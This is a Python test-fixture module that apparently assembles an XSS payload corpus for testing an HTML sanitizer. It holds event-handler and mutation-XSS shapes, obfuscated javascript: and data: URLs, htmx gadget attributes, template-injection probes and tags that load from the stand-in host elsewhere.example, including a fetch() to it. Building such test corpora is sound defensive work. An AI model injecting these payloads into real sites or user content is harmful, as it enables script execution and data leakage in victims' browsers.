"""What is written to make a page act: our own set, made of shapes, and those of `../shared/data/attacks` where they lie beside the repository.

Whatever of it runs says `alert(1)`, and whatever asks for something asks ELSEWHERE or a gadget's address on the desk itself.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from itertools import product
from pathlib import Path

ELSEWHERE = "elsewhere.example"
SHARED = Path(os.environ.get("PAROLA_TEST_ATTACKS", Path(__file__).parents[3] / "shared/data/attacks"))

RUN = ("alert(1)", f"fetch('//{ELSEWHERE}/')", "parent.document.title=1")
HANDLED = (
    "<img src=x onerror={}>", "<img/src=x/onerror={}>", "<svg onload={}>", "<svg/onload={}//", "<body onload={}>",
    "<input autofocus onfocus={}>", "<details open ontoggle={}>x</details>", "<video src=x onerror={}>", "<audio src=x onerror={}>",
    "<marquee onstart={}>x</marquee>", "<iframe onload={}></iframe>", "<select autofocus onfocus={}>", "<p style='animation:a' onanimationstart={}>",
    "<IMG SRC=x ONERROR={}>", "<img src=x onerror\n=\n{}>", "<img src='x' onerror='{}'", "\"><img src=x onerror={}>", "'><img src=x onerror={}>",
    "</title><img src=x onerror={}>", "</textarea><img src=x onerror={}>", "--><img src=x onerror={}>", "]]><img src=x onerror={}>",
    "</script><script>{}</script>", "<script>{}</script>", "<scr<script>ipt>{}</script>", "<script/x>{}</script>", "<script\x00>{}</script>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<iframe src=javascript:{}>", "<iframe srcdoc='<script>{}</script>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<svg><style><img src=x onerror={}></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<table><tr><td><svg><desc><td><img src=x onerror={}>", "<template><img src=x onerror={}></template>", "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<button formaction=javascript:{}>x", "<form action=javascript:{}><input type=submit>", "<isindex action=javascript:{} type=submit>",
)  # fmt: skip
LED = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)", "java&Tab;script:alert(1)", "\x01javascript:alert(1)", "javascript\x3aalert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:alert(1)",
    "view-source:javascript:alert(1)", "blob:alert(1)", "filesystem:alert(1)", "//elsewhere.example/", "\\\\elsewhere.example\\",
)  # fmt: skip
ASKING = (
    "<img src=//elsewhere.example/p>", "<img srcset='//elsewhere.example/p 1x'>", "<picture><source srcset=//elsewhere.example/p><img></picture>",
    "<link rel=stylesheet href=//elsewhere.example/s>", "<link rel=prefetch href=//elsewhere.example/s>", "<link rel=dns-prefetch href=//elsewhere.example>",
    "<style>@import '//elsewhere.example/s';</style>", "<style>*{background:url(//elsewhere.example/p)}</style>",
    "<p style=background:url(//elsewhere.example/p)>x", "<p style='list-style:url(//elsewhere.example/p)'>x", "<table background=//elsewhere.example/p>",
    "<body background=//elsewhere.example/p>", "<video poster=//elsewhere.example/p>", "<audio src=//elsewhere.example/a autoplay>",
    "<input type=image src=//elsewhere.example/p>", "<iframe src=//elsewhere.example/></iframe>", "<object data=//elsewhere.example/></object>",
    "<embed src=//elsewhere.example/>", "<svg><image href=//elsewhere.example/p></svg>", "<svg><use href=//elsewhere.example/p#x></svg>",
    "<meta http-equiv=refresh content='0;url=//elsewhere.example/'>", "<base href=//elsewhere.example/><img src=p>",
    "<p style='font-family:x;src:url(//elsewhere.example/f)'>x", "<p style='behavior:url(//elsewhere.example/h)'>x", "<html manifest=//elsewhere.example/m>",
    "<p style='width:expression(alert(1))'>x", "<p style='background:\\75rl(//elsewhere.example/p)'>x", "<img src='//elsewhere.example/\n<b>dangling",
    "<form action=//elsewhere.example/><button autofocus>x", "<a ping=//elsewhere.example/ href=x>x",
)  # fmt: skip
GADGETS = tuple(
    f"<div {prefix}{name}>x</div>"
    for prefix, name in product(
        ("hx-", "data-hx-"),
        (
            "get='/gadget' hx-trigger=load", "post='/gadget' data-hx-trigger=load", "on:load='alert(1)'", "on::load='alert(1)'",
            "vals='js:{a:alert(1)}' hx-get=/gadget hx-trigger=load", "ext='x' hx-get=/gadget hx-trigger='every 1s'", "boost=true",
        ),
    )
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}",
    "{% debug %}",
    "${7*7}",
    "<%= 7*7 %>",
    "[a](javascript:alert(1))",
    "![a](//elsewhere.example/p)",
    "<javascript:alert(1)>",
)


def ours() -> list[str]:
    """Our own set."""
    handled = [shape.format(RUN[number % len(RUN)]) for number, shape in enumerate(HANDLED)]
    led = [f'<a href="{address}">x</a>' for address in LED]
    return [*handled, *(shape.format("alert`1`") for shape in HANDLED[:22]), *led, *ASKING, *GADGETS, *TEMPLATES]


def others() -> Iterator[str]:
    """What others collected, as far as it is here."""
    for name in ("dompurify_expect", "markdown_xss", "htmx_gadgets", "filenames", "homoglyphs"):
        path = SHARED / f"{name}.json"
        found = json.loads(path.read_text(encoding="utf-8")) if path.exists() else []
        for each in found:
            yield each if isinstance(each, str) else each.get("payload") or each.get("name") or each.get("b", "")


def everything() -> list[str]:
    """All of it, each once."""
    return [*dict.fromkeys([*ours(), *others()])]
